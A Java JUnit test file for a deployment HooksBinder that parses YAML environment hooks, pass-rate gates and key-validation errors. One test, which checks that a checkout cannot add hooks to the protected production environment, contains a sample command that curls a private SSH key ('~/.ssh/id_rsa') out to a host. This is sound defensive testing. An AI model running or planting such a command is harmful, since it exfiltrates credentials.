package io.genesis.core.hook;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.genesis.core.policy.EnvironmentBinder;
import io.genesis.core.policy.Environments;
import io.genesis.core.policy.Percentage;
import io.genesis.core.policy.PolicyCases;
import io.genesis.core.policy.PolicyEntry;
import io.genesis.core.policy.PolicyException;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;

class HooksBinderTest {

    @Test
    void shouldReadEachPhaseWithItsSettingsAndTheGateBarByDefault() {
        List<Hook> hooks = HooksBinder.hooks(entry("""
                        environments:
                          - name: staging
                            minPassRate: 95
                            minCoverage: 80
                            hooks:
                              preTraffic:
                                command: "pytest -m smoke --base-url {url} --junitxml smoke.xml"
                                junit: smoke.xml
                                timeout: 5m
                              beforeDeploy:
                                - {webhook: "http://127.0.0.1:9/backup", retries: 2}
                                - {command: ./dump.sh, timeout: 30s}
                        """), Environments.defaults().named("staging"));

        assertThat(hooks).hasSize(3);
        assertThat(hooks.get(0).phase()).isEqualTo(HookPhase.PRE_TRAFFIC);
        assertThat(hooks.get(0).junit()).isEqualTo("smoke.xml");
        assertThat(hooks.get(0).timeout()).isEqualTo(Duration.ofMinutes(5));
        assertThat(hooks.get(0).minPassRate())
                .isEqualTo(Environments.defaults().named("staging").gate().minPassRate());
        assertThat(hooks.get(1).webhook()).isEqualTo("http://127.0.0.1:9/backup");
        assertThat(hooks.get(1).retries()).isEqualTo(2);
        assertThat(hooks.get(2).command()).isEqualTo("./dump.sh");
        assertThat(hooks.get(2).timeout()).isEqualTo(Duration.ofSeconds(30));
    }

    @Test
    void shouldTakeTheHooksOwnPassRateWhenGiven() {
        List<Hook> hooks = HooksBinder.hooks(entry("""
                        environments:
                          - name: staging
                            hooks:
                              preTraffic: {command: pytest, junit: "reports/*.xml", minPassRate: 99.5}
                        """), Environments.defaults().named("staging"));

        assertThat(hooks.get(0).minPassRate()).isEqualTo(Percentage.of("x", 99.5));
    }

    @Test
    void shouldRefuseHooksForAProtectedEnvironmentFromACheckout() {
        PolicyEntry entry = entry("""
                environments:
                  - name: production
                    hooks:
                      beforeDeploy: {command: "curl -d @~/.ssh/id_rsa http://127.0.0.1:9"}
                """);

        assertThatThrownBy(() ->
                        HooksBinder.fromCheckout(entry, Environments.defaults().named("production")))
                .isInstanceOf(PolicyException.class)
                .hasMessageContaining("production is protected, and a checkout may not give it hooks")
                .hasMessageContaining("fix: remove hooks from this file");
    }

    @Test
    void shouldLetACheckoutGiveHooksToAnEnvironmentThatIsNotProtected() {
        PolicyEntry entry = entry("""
                environments:
                  - name: staging
                    hooks:
                      preTraffic: {command: ./smoke.sh}
                """);

        assertThat(HooksBinder.fromCheckout(entry, Environments.defaults().named("staging")))
                .extracting(Hook::command)
                .containsExactly("./smoke.sh");
    }

    @Test
    void shouldNameTheEnvironmentThePhaseAndTheKnownKeysForAnUnknownKey() {
        PolicyEntry entry = entry("""
                environments:
                  - name: staging
                    hooks:
                      preTraffic: {cmd: ./smoke.sh}
                """);

        assertThatThrownBy(
                        () -> HooksBinder.hooks(entry, Environments.defaults().named("staging")))
                .isInstanceOf(PolicyException.class)
                .hasMessage("environments[0] (staging): hooks.preTraffic: unknown key 'cmd'; fix: use one of command,"
                        + " junit, minPassRate, retries, timeout, webhook")
                .satisfies(e -> assertThat(((PolicyException) e).path()).isEqualTo("environments[0].hooks"));
    }

    @Test
    void shouldNameAnUnknownPhase() {
        PolicyEntry entry = entry("""
                environments:
                  - name: staging
                    hooks:
                      afterDeploy: {command: ./smoke.sh}
                """);

        assertThatThrownBy(
                        () -> HooksBinder.hooks(entry, Environments.defaults().named("staging")))
                .hasMessageContaining("hooks.afterDeploy: unknown hook phase 'afterDeploy'; use one of before-deploy");
    }

    private static PolicyEntry entry(String yaml) {
        return EnvironmentBinder.entries(PolicyCases.tree(yaml)).get(0);
    }
}
